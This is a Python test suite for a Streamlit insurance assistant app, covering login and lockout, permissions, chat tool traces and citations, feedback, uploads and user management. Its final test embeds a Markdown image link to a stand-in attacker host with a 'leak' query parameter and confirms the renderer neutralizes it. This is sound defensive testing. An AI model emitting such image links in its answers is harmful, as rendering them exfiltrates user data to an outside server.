"""The Streamlit app through AppTest (the real script, real widgets): login, permissions, a chat turn with
its tool trace and sources, feedback, conversations, upload + ingest, users, errors shown as messages.
The model is the tiny Qwen3 with the chain adapter from tests/chain_env.py; the data home is a copy."""

from __future__ import annotations

import json
import re
import shutil
import sqlite3
from pathlib import Path
from typing import Any

import pytest
from streamlit.testing.v1 import AppTest

from assistant.app import conversations
from assistant.app.users import DEMO_USERS, ensure_demo_users
from core.feedback import list_feedback
from finetune.data import load_datasets
from ingest import pipeline
from tests.chain_env import CHAIN_ENV_VARS, Q_RAG, Q_TOOL

APP = str(Path(__file__).resolve().parent.parent / "ui" / "app.py")
PASSWORDS = {name: pw for name, pw, _, _ in DEMO_USERS}


@pytest.fixture(scope="module")
def ui_home(chain_env: dict, tmp_path_factory: pytest.TempPathFactory) -> Path:
    home = tmp_path_factory.mktemp("ui") / "home"
    shutil.copytree(chain_env["settings"].home, home)
    ensure_demo_users(home / "app.db")
    return home


@pytest.fixture
def ui_env(ui_home: Path, chain_env: dict, monkeypatch: pytest.MonkeyPatch) -> dict[str, Any]:
    env = {"ASSISTANT_HOME": str(ui_home), "ASSISTANT_MODEL": str(chain_env["tiny"]),
           "ASSISTANT_MAX_NEW_TOKENS": "48", "ASSISTANT_RETRIEVAL_K": "2",
           **CHAIN_ENV_VARS}
    for k, v in env.items():
        monkeypatch.setenv(k, v)
    return {"home": ui_home, "db": ui_home / "app.db", "env": env}


def plain(markdown: str) -> str:
    """The text a literal-text Markdown string (ui.safe_markdown) shows on screen."""
    return re.sub(r"\\(.)", r"\1", markdown).replace("\u2060", "").replace("  \n", "\n")


def login(name: str, password: str | None = None) -> AppTest:
    at = AppTest.from_file(APP, default_timeout=120).run()
    at.text_input(key="login_name").input(name)
    at.text_input(key="login_password").input(password or PASSWORDS[name])
    at.button(key="login").click().run()
    assert not at.exception, at.exception
    return at


def ask(at: AppTest, question: str) -> AppTest:
    at.chat_input(key="question").set_value(question).run()
    assert not at.exception, at.exception
    return at


def test_login_checks_the_hashed_password(ui_env: dict) -> None:
    at = AppTest.from_file(APP, default_timeout=60).run()
    assert at.title[0].value == "Domain assistant" and not at.sidebar.radio
    at.text_input(key="login_name").input("wang.staff")
    at.text_input(key="login_password").input("not-the-password")
    at.button(key="login").click().run()
    assert [e.value for e in at.error] == ["Wrong user name or password."] and "account" not in at.session_state
    at.text_input(key="login_password").input(PASSWORDS["wang.staff"])
    at.button(key="login").click().run()
    assert at.session_state["account"].name == "wang.staff"
    with sqlite3.connect(ui_env["db"]) as conn:
        stored = conn.execute("SELECT password_hash FROM users WHERE name = 'wang.staff'").fetchone()[0]
    assert stored.startswith("scrypt$") and PASSWORDS["wang.staff"] not in stored


def test_repeated_wrong_passwords_lock_the_login_for_a_while(ui_env: dict, tmp_path: Path,
                                                            monkeypatch: pytest.MonkeyPatch) -> None:
    own = tmp_path / "home"  # the lock is kept in the database: lock an admin no other test logs in as
    ensure_demo_users(own / "app.db")
    monkeypatch.setenv("ASSISTANT_HOME", str(own))
    at = AppTest.from_file(APP, default_timeout=60).run()
    at.text_input(key="login_name").input("admin")
    for _ in range(5):
        at.text_input(key="login_password").input("guess-guess").run()
        at.button(key="login").click().run()
        assert at.error[0].value == "Wrong user name or password."
    at.text_input(key="login_password").input(PASSWORDS["admin"])
    at.button(key="login").click().run()  # even the right password waits out the lockout
    assert at.error[0].value.startswith("Too many failed attempts") and "account" not in at.session_state


def test_admin_pages_are_hidden_from_staff(ui_env: dict) -> None:
    staff = login("wang.staff")
    assert not staff.sidebar.radio  # chat only: no page switcher, no knowledge base / adapters / users
    assert "Adapter" not in [s.label for s in staff.sidebar.selectbox]
    admin = login("admin")
    # Material Symbols (a font Streamlit serves), never emoji: those showed as empty boxes without an emoji font
    assert admin.sidebar.radio(key="page").options == [":material/chat: Chat", ":material/library_books: Knowledge base",
                                                      ":material/extension: Adapters", ":material/group: Users"]
    assert "Adapter" in [s.label for s in admin.sidebar.selectbox]


def test_chat_turn_shows_the_tool_trace_and_cited_sources(ui_env: dict) -> None:
    at = ask(login("wang.staff"), Q_TOOL)
    assistant_msgs = [m for m in at.chat_message if m.name == "assistant"]
    assert len(assistant_msgs) == 1
    msg = assistant_msgs[0]
    assert "保单有效。" in [plain(md.value) for md in msg.markdown]
    trace = [e for e in msg.expander if e.label.startswith("Tools")]
    assert trace and plain(trace[0].label) == "Tools: get_policy_status"
    line = plain(trace[0].markdown[0].value)
    assert '"policy_id": "POL-2024-0001"' in line and "→ ok" in line
    assert '"status": "active"' in trace[0].code[0].value

    at.sidebar.button(key="new_conv").click().run()  # a second conversation: no history from the first
    ask(at, Q_RAG)  # answered from the knowledge base with a citation
    last = [m for m in at.chat_message if m.name == "assistant"][-1]
    answer = plain(last.markdown[0].value)
    assert answer.startswith("十日内报案 [")
    labels = [plain(e.label) for e in last.expander]
    assert any(lbl.startswith("[") and "claims.md" in lbl and "第一条 报案" in lbl for lbl in labels), labels
    cited = next(e for e in last.expander if "claims.md" in e.label)
    assert "出险后十日内拨打 95500-88 报案" in plain(cited.markdown[0].value)  # the cited passage, shown literally
    # persisted: a reload (new session, same user) shows the same conversation with its payloads
    rag, tool = conversations.list_for(ui_env["db"], "wang.staff")[:2]  # newest first
    assert (rag.title, tool.title) == (Q_RAG, Q_TOOL)
    saved = conversations.messages(ui_env["db"], tool.id, "wang.staff")
    assert [m["role"] for m in saved] == ["user", "assistant"]
    assert saved[1]["payload"]["tool_calls"][0]["name"] == "get_policy_status"
    again = login("wang.staff")  # opens the newest conversation
    assert [m.name for m in again.chat_message] == ["user", "assistant"]
    assert plain(again.chat_message[1].markdown[0].value).startswith("十日内报案 [")
    assert [b.label for b in again.sidebar.button if b.key.startswith("conv_")][:2] == [Q_RAG, Q_TOOL]


def test_feedback_is_stored_with_the_turn_and_is_training_data(ui_env: dict, tmp_path: Path) -> None:
    at = ask(login("li.claims"), Q_RAG)
    payload = conversations.messages(ui_env["db"], conversations.list_for(ui_env["db"], "li.claims")[0].id,
                                     "li.claims")[-1]["payload"]
    audit_id = payload["audit_id"]
    at.feedback(key=f"thumbs_{audit_id}").set_value(0).run()  # thumbs down
    rows = [r for r in list_feedback(ui_env["db"]) if r["audit_id"] == audit_id]
    assert len(rows) == 1 and rows[0]["rating"] == -1 and rows[0]["user"] == "li.claims"
    at.text_input(key=f"comment_{audit_id}").input("missing the phone number")
    at.text_area(key=f"correction_{audit_id}").input("出险后十日内拨打 95500-88 报案 [1]。")
    at.button(key=f"fbsave_{audit_id}").click().run()
    row = next(r for r in list_feedback(ui_env["db"]) if r["audit_id"] == audit_id)
    assert row["rating"] == -1 and row["comment"] == "missing the phone number"
    assert row["correction"].startswith("出险后十日内") and row["adapter"] == "claims@v1"
    # the stored example is the chain's exact prompt, loadable by the fine-tuning data loader
    example = row["example"]
    users = [m for m in example["messages"] if m["role"] == "user"]
    assert example["messages"][0]["role"] == "system" and "95500-88" in users[-1]["content"]  # the passages
    # exactly as the model was sent it (issue 11): the recorded transcript, a malformed tool-call round and the
    # error the model was shown included, then the final answer
    assert example["messages"][:-1] == payload["transcript"]
    assert users[-1]["content"].endswith(f"问题：{Q_RAG}")  # after the numbered passages
    assert {t["function"]["name"] for t in example["tools"]} >= {"get_policy_status"}
    f = tmp_path / "fb.jsonl"
    f.write_text(json.dumps(example, ensure_ascii=False) + "\n", encoding="utf-8")
    assert len(load_datasets([f])[0].conversations) == 1
    # a reload shows the saved thumbs
    again = login("li.claims")
    assert again.feedback(key=f"thumbs_{audit_id}").value == 0


def test_conversations_new_rename_delete(ui_env: dict) -> None:
    at = login("wang.staff")
    before = len(conversations.list_for(ui_env["db"], "wang.staff"))
    at.sidebar.button(key="new_conv").click().run()
    convs = conversations.list_for(ui_env["db"], "wang.staff")
    assert len(convs) == before + 1 and at.session_state["conv"] == convs[0].id
    at.sidebar.text_input(key=f"title_{convs[0].id}").input("Renewals")
    at.sidebar.button(key="rename_conv").click().run()
    assert conversations.list_for(ui_env["db"], "wang.staff")[0].title == "Renewals"
    assert at.header[0].value == "Renewals"
    at.sidebar.button(key="delete_conv").click().run()
    assert len(conversations.list_for(ui_env["db"], "wang.staff")) == before
    assert not at.exception


def test_upload_ingests_good_files_and_reports_bad_ones(ui_env: dict) -> None:
    at = login("admin")
    at.sidebar.radio(key="page").set_value("Knowledge base").run()
    at.text_input(key="kb_new").input("uploads").run()
    at.file_uploader(key="kb_files").set_value([
        ("renewals.md", "# 续保\n\n## 第一条 续保期限\n\n保单到期前三十日内可申请续保。\n".encode(), "text/markdown"),
        ("broken.pdf", b"%PDF-1.4 this is not really a pdf", "application/pdf"),
    ]).run()
    at.button(key="kb_ingest").click().run()
    assert not at.exception, at.exception
    assert [w.value for w in at.warning] == ["1 added or updated, 0 unchanged, 1 failed"]
    result = at.dataframe[0].value
    assert dict(zip(result["file"], result["result"], strict=True)) == {"renewals.md": "added", "broken.pdf": "failed"}
    assert result.loc[result["file"] == "broken.pdf", "problem"].iloc[0]  # the reason is shown
    docs = pipeline.list_documents(pipeline.Settings(home=ui_env["home"]), "uploads")
    assert [d["source"] for d in docs] == ["renewals.md"] and docs[0]["chunks"] >= 1
    # kept under a folder of its own, so a later file of the same name cannot overwrite it
    stored = sorted((ui_env["home"] / "uploads" / "uploads").glob("*/*"))
    assert sorted(p.name for p in stored) == ["broken.pdf", "renewals.md"] and stored[0].parent != stored[1].parent
    assert docs[0]["path"] == str(next((ui_env["home"] / "uploads" / "uploads").glob("*/renewals.md")))


def test_admin_adds_a_user_who_can_then_log_in(ui_env: dict) -> None:
    at = login("admin")
    at.sidebar.radio(key="page").set_value("Users").run()
    at.text_input(key="new_user_name").input("zhao.finance")
    at.text_input(key="new_user_password").input("short")
    at.selectbox(key="new_user_role").set_value("finance")
    at.button(key="add_user").click().run()
    assert "too short" in at.error[0].value
    at.text_input(key="new_user_password").input("finance-pass-1")
    at.text_input(key="new_user_dept").input("finance")
    at.button(key="add_user").click().run()
    assert "zhao.finance" in list(at.dataframe[0].value["user"])
    assert login("zhao.finance", "finance-pass-1").session_state["account"].role == "finance"


def test_errors_are_messages_not_tracebacks(ui_env: dict, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    empty = tmp_path / "empty-home"
    ensure_demo_users(empty / "app.db")
    monkeypatch.setenv("ASSISTANT_HOME", str(empty))  # no knowledge base ingested yet
    at = ask(login("wang.staff"), Q_RAG)
    msg = [m for m in at.chat_message if m.name == "assistant"][-1]
    assert "knowledge base 'default' is empty" in msg.warning[0].value
    assert "ingest add PATH --kb default" in msg.warning[0].value
    monkeypatch.setenv("ASSISTANT_MODEL", str(tmp_path / "no-such-model"))
    at = ask(login("wang.staff"), Q_RAG)
    assert at.error and at.error[0].value.startswith("The model is not loaded")
    assert "scripts/setup.sh --model" in at.error[0].value


def test_the_guards_quote_shows_as_a_block_quote_of_literal_text() -> None:
    """The guard answers with "> the passage's words [n]": that line is a Markdown block quote (the '>' was shown
    as a stray character before), its words still literal; any other line starting with '>' keeps it."""
    from markdown_it import MarkdownIt

    from ui.safe_markdown import text

    answer = ("模型的回答未能在资料中得到印证，以下是资料中最能回答该问题的原文：\n\n"
              "> 第九条 …十日内通知保险人 ![x](http://evil.example/a.png?leak=1) [3]\nnext line")
    html = MarkdownIt("commonmark").render(text(answer))
    quote = re.search(r"<blockquote>(.*?)</blockquote>", html, re.S)
    assert quote and "十日内通知保险人" in quote.group(1) and "[3]" in quote.group(1)
    assert "<img" not in html and "next line" not in quote.group(1)  # literal inside, and the quote ends
    assert "<blockquote>" not in MarkdownIt("commonmark").render(text("> 300,000 needs the Head of Claims"))
    assert plain(text("> 300,000 needs the Head of Claims")) == "> 300,000 needs the Head of Claims"
